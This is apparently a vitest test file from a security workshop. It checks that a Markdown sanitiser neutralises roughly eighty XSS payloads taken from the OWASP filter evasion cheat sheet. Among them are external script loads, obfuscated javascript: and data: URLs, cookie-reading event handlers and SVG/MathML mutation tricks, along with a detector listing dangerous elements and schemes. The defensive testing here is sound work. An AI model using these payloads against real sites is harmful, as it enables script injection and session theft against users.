/**
 * Module 1's sanitiser against the OWASP XSS Filter Evasion Cheat Sheet: every payload goes
 * through the real conversion (`toSafeHtml`: marked, then sanitize-html), and the output is parsed
 * as a browser would read it (htmlparser2: tags and attribute names lower-cased, entities decoded)
 * to find anything that runs, embeds or redirects. `data:` URLs are refused everywhere, images
 * included: interview notes need no inline images, and an SVG one can carry a script.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Parser } from 'htmlparser2';
import ts from 'typescript';
import { describe, expect, it } from 'vitest';
import { unsafeHtmlFindings } from '../../checks/module1-verify.ts';
import { repoRoot } from '../../core/curriculum.ts';
import { toSafeHtml } from './conversion.ts';

/** Elements that run code, embed another document, submit or redirect the reader. */
const EXECUTABLE_ELEMENTS = new Set([
  ...['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'portal'],
  ...['base', 'meta', 'link', 'style', 'form', 'svg', 'math', 'template', 'isindex', 'bgsound'],
]);

/** Attributes a browser follows or loads as a URL. */
const URL_ATTRIBUTES = new Set([
  ...['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'poster'],
  ...['srcset', 'cite', 'lowsrc', 'dynsrc', 'codebase', 'longdesc', 'manifest', 'ping', 'icon'],
]);

/** Schemes that run code or load a document of the uploader's choosing. */
const UNSAFE_SCHEME = /^(javascript|vbscript|livescript|mocha|data):/;

/** Browsers drop control characters and spaces from a URL before they read its scheme. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: control characters are what we strip.
const scheme = (url: string) => url.replace(/[\u0000-\u0020]/g, '').toLowerCase();

/**
 * Everything in `html` that could run when a reader opens it, as a browser parses it. The parser
 * has decoded entities already, so `jav&#x09;ascript:` arrives as `jav\tascript:`.
 */
function executableParts(html: string): string[] {
  const found: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        if (EXECUTABLE_ELEMENTS.has(name)) found.push(`<${name}>`);
        for (const [attribute, value] of Object.entries(attributes)) {
          if (attribute.startsWith('on')) found.push(`<${name} ${attribute}>`);
          if (
            attribute === 'style' &&
            /expression|url\s*\(|behavio(u)?r|binding|javascript|@import/i.test(value)
          ) {
            found.push(`<${name} style="${value}">`);
          }
          if (!URL_ATTRIBUTES.has(attribute)) continue;
          const urls =
            attribute === 'srcset' ? value.split(',').map((c) => c.trim().split(/\s+/)[0] ?? '') : [value];
          for (const url of urls)
            if (UNSAFE_SCHEME.test(scheme(url))) found.push(`<${name} ${attribute}="${url}">`);
        }
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.end(html);
  return found;
}

// Payloads from the OWASP XSS Filter Evasion Cheat Sheet, plus the Markdown ways to write them.
const XSS_PAYLOADS: [string, string][] = [
  ['external script', '<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>'],
  [
    'polyglot',
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  ],
  ['img javascript src', `<IMG SRC="javascript:alert('XSS');">`],
  ['img unquoted, mixed case', `<IMG SRC=JaVaScRiPt:alert('XSS')>`],
  ['img grave accents', '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>'],
  ['anchor onmouseover', '<a onmouseover="alert(document.cookie)">xxs link</a>'],
  ['malformed img then script', `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`],
  ['img onerror', `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`],
  [
    'decimal entities without semicolons',
    '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  ],
  [
    'decimal entities',
    '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  ],
  [
    'hex entities',
    '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  ],
  ['embedded tab', `<IMG SRC="jav\tascript:alert('XSS');">`],
  ['encoded tab', `<IMG SRC="jav&#x09;ascript:alert('XSS');">`],
  ['encoded newline', `<IMG SRC="jav&#x0A;ascript:alert('XSS');">`],
  ['leading spaces and meta chars', `<IMG SRC=" &#14;  javascript:alert('XSS');">`],
  ['non-alpha-non-digit', '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>'],
  ['body onload with junk', '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>'],
  ['extra open bracket', '<<SCRIPT>alert("XSS");//\\<</SCRIPT>'],
  ['no closing script tag', '<SCRIPT SRC=http://xss.rocks/xss.js?< B >'],
  ['half-open iframe', '<iframe src=http://xss.rocks/scriptlet.html <'],
  ['input image', `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`],
  ['body background', `<BODY BACKGROUND="javascript:alert('XSS')">`],
  ['svg onload', "<svg/onload=alert('XSS')>"],
  ['stylesheet link', `<LINK REL="stylesheet" HREF="javascript:alert('XSS');">`],
  ['meta refresh', `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`],
  ['iframe', `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`],
  ['frameset', `<FRAMESET><FRAME SRC="javascript:alert('XSS');"></FRAMESET>`],
  ['table background', `<TABLE BACKGROUND="javascript:alert('XSS')">`],
  ['div background-image', `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`],
  ['div expression', `<DIV STYLE="width: expression(alert('XSS'));">`],
  ['object', '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>'],
  [
    'embed svg',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  ],
  ['base href', `<BASE HREF="javascript:alert('XSS');//">`],
  ['data: link', '<A HREF="data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">X</A>'],
  ['&colon; entity', '<a href="javascript&colon;alert(1)">x</a>'],
  ['style import', "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>"],
  ['svg script', '<svg><script>alert(1)</script></svg>'],
  ['mutation (math/style)', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['vbscript', `<IMG SRC='vbscript:msgbox("XSS")'>`],
  ['form action', '<form action="javascript:alert(1)"><button>go</button></form>'],
  // More of the cheat sheet: obfuscated schemes, other URL attributes, SVG/MathML, style.
  ['leading control character', '<a href="&#1;javascript:alert(1)">x</a>'],
  ['encoded carriage return', `<IMG SRC="jav&#x0D;ascript:alert('XSS');">`],
  ['null byte in the scheme', '<a href="java\0script:alert(1)">x</a>'],
  ['hex entities with zero padding', '<a href="&#x000006A;avascript:alert(1)">x</a>'],
  ['&Tab; and &NewLine;', '<a href="java&Tab;script&NewLine;:alert(1)">x</a>'],
  ['extraneous open bracket on attribute', '<SCRIPT a=">" SRC="httx://xss.rocks/xss.js"></SCRIPT>'],
  ['iframe event handler', '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>'],
  ['img dynsrc', `<IMG DYNSRC="javascript:alert('XSS')">`],
  ['img lowsrc', `<IMG LOWSRC="javascript:alert('XSS')">`],
  ['img srcset', '<img srcset="https://wildrydes.com/a.png 1x, javascript:alert(1) 2x">'],
  ['bgsound', `<BGSOUND SRC="javascript:alert('XSS');">`],
  ['& JavaScript includes', `<BR SIZE="&{alert('XSS')}">`],
  ['td background', `<TABLE><TD BACKGROUND="javascript:alert('XSS')">`],
  ['style behavior', '<XSS STYLE="behavior: url(xss.htc);">'],
  ['style with a comment in expression', `<IMG STYLE="xss:expr/*XSS*/ession(alert('XSS'))">`],
  ['-moz-binding', '<div style="-moz-binding:url(http://xss.rocks/xssmoz.xml#xss)">x</div>'],
  [
    'list-style-image',
    `<STYLE>li {list-style-image: url("javascript:alert('XSS')");}</STYLE><UL><LI>XSS</br>`,
  ],
  ['object data javascript:', '<object data="javascript:alert(1)"></object>'],
  ['embed javascript:', '<embed src="javascript:alert(1)">'],
  [
    'meta refresh to data:',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  ],
  ['base href to another site', '<base href="https://xss.rocks/">'],
  ['svg a xlink:href', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>'],
  [
    'mathml maction',
    '<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>',
  ],
  ['details ontoggle', '<details open ontoggle=alert(1)>x</details>'],
  ['video source onerror', '<video><source onerror="alert(1)"></video>'],
  ['img onerror eval of src', '<img src=x:alert(alt) onerror=eval(src) alt=0>'],
  ['form button formaction', '<form><button formaction="javascript:alert(1)">go</button></form>'],
  ['isindex', '<isindex type=image src=1 onerror=alert(1)>'],
  ['markdown link with entities', '[x](&#106;avascript:alert(1))'],
  ['markdown link with an encoded tab', '[x](jav&#x09;ascript:alert(1))'],
  ['markdown link in angle brackets', '[x](<javascript:alert(1)>)'],
  ['markdown svg data: image', '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)'],
  ['markdown link title breaking out', '[x](https://wildrydes.com "a\\" onmouseover=\\"alert(1))'],
  ['markdown link', '[click me](javascript:alert(1))'],
  ['markdown link, upper case', '[click me](JAVASCRIPT:alert(1))'],
  ['markdown data: link', '[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['markdown image', '![pic](javascript:alert(1))'],
  ['markdown vbscript link', '[x](vbscript:msgbox(1))'],
  ['markdown autolink', '<javascript:alert(1)>'],
  ['markdown reference link', '[x][1]\n\n[1]: javascript:alert(1)'],
];

describe('the XSS payloads', () => {
  it('are at least the twenty the workshop promises', () => {
    // Assess
    expect(new Set(XSS_PAYLOADS.map(([, payload]) => payload)).size).toBeGreaterThanOrEqual(20);
  });

  it.each(XSS_PAYLOADS)('leave nothing executable through toSafeHtml: %s', (_, payload) => {
    // Act
    const html = toSafeHtml(`# Notes\n\n${payload}\n\nThe end.`);
    // (An unclosed <script> or <style> may swallow "The end.": lost text, but nothing runs.)

    // Assess: as a browser parses it, and as the module 1 check reads it
    expect(executableParts(html)).toEqual([]);
    expect(unsafeHtmlFindings(html)).toEqual([]);
    expect(html).toContain('<h1>Notes</h1>');
  });
});

describe('executableParts (the assessment itself)', () => {
  it.each([
    ['a script element', '<p><SCRIPT>alert(1)</SCRIPT></p>', '<script>'],
    ['an event handler', '<img src="https://wildrydes.com/u.png" ONERROR="alert(1)">', '<img onerror>'],
    [
      'an entity-encoded scheme',
      '<a href="&#106;ava&#x09;script:alert(1)">x</a>',
      '<a href="java\tscript:alert(1)">',
    ],
    ['a data: image', '<img src="data:image/png;base64,AAAA">', '<img src="data:image/png;base64,AAAA">'],
    [
      'a scripted srcset candidate',
      '<img srcset="a.png 1x, javascript:alert(1) 2x">',
      '<img srcset="javascript:alert(1)">',
    ],
    ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://xss.rocks">', '<meta>'],
    [
      'a scripted style',
      '<div style="width: expression(alert(1))">x</div>',
      '<div style="width: expression(alert(1))">',
    ],
  ])('finds %s', (_, html, finding) => {
    // Act & Assess
    expect(executableParts(html)).toContain(finding);
  });

  it('finds nothing in what notes are made of', () => {
    // Prepare
    const html = toSafeHtml(
      '# Ride\n\n**Great** [site](https://wildrydes.com) ![u](https://wildrydes.com/u.png)\n\n| a |\n|---|\n| 1 |\n\n```js\nx()\n```',
    );

    // Act & Assess
    expect(executableParts(html)).toEqual([]);
  });
});

describe('the starter', () => {
  it('leaves the sanitising to the attendee: toSafeHtml is a TODO that returns nothing', async () => {
    // Prepare
    const file = join(repoRoot, 'modules/01-file-processing/starter/conversion.ts');
    const source = ts.createSourceFile(file, readFileSync(file, 'utf8'), ts.ScriptTarget.ES2022, true);
    const declaration = source.statements.find(
      (s): s is ts.FunctionDeclaration => ts.isFunctionDeclaration(s) && s.name?.text === 'toSafeHtml',
    );
    const starter = (await import('../../modules/01-file-processing/starter/conversion.ts')).toSafeHtml;

    // Assess
    expect(declaration?.body?.getFullText()).toMatch(/\/\/ TODO: .*sanitize-html/s);
    expect(starter('<script>alert(1)</script> # hi')).toBe('');
  });
});
